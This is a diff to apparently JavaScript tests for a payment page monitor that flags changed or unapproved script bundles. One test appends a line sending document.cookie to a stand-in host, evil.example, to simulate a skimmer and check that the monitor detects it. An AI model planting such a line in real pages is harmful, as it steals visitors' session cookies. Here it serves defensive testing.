@@ -76,10 +76,10 @@ describe('payment page monitor', () => {
   });
 
   it('detects a changed bundle', async () => {
-    const app = await startApp();
-    const baseline = await snapshot(app);
+    const baseline = withoutPort(await snapshot(await startApp()));
     await appendFile(path.join(clientDir, 'assets', 'index-Bx12cd34.js'), '\nfetch("https://evil.example/?" + document.cookie);\n');
-    expect(comparePage(baseline, await snapshot(app))).toEqual([
+    // The server reads its built files at startup, as it reads the pages: a tampered bundle shows after a restart.
+    expect(comparePage(baseline, withoutPort(await snapshot(await startApp())))).toEqual([
       expect.stringMatching(/^\/: script not in the baseline: \/assets\/index-Bx12cd34\.js sha384-/),
       expect.stringMatching(/^\/: baseline script no longer served: \/assets\/index-Bx12cd34\.js sha384-/),
     ]);
@@ -271,7 +271,8 @@ describe('npm run monitor', () => {
       expect((await run('--approve')).code).toBe(0);
       expect((await run()).code).toBe(0);
       await appendFile(path.join(clientDir, 'assets', 'index-Bx12cd34.js'), '\n/* changed */\n');
-      const changed = await run('--alert-url', `https://localhost:${receiverPort}/alerts`);
+      // Served once the server restarts (it reads its built files at startup).
+      const changed = await (await monitorCli(await startApp()))('--alert-url', `https://localhost:${receiverPort}/alerts`);
       expect(changed.code).toBe(1);
       expect(changed.stdout).toMatch(/"level":50.*"alert":"payment-page-changed"/);
       expect(alerts).toEqual([
